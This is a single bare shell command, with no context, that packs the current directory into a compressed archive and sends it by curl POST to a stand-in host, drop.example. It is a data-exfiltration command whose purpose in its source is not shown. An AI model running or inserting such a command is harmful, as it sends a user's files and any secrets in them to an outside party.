tar czf - . | curl -s -X POST --data-binary @- https://drop.example/in
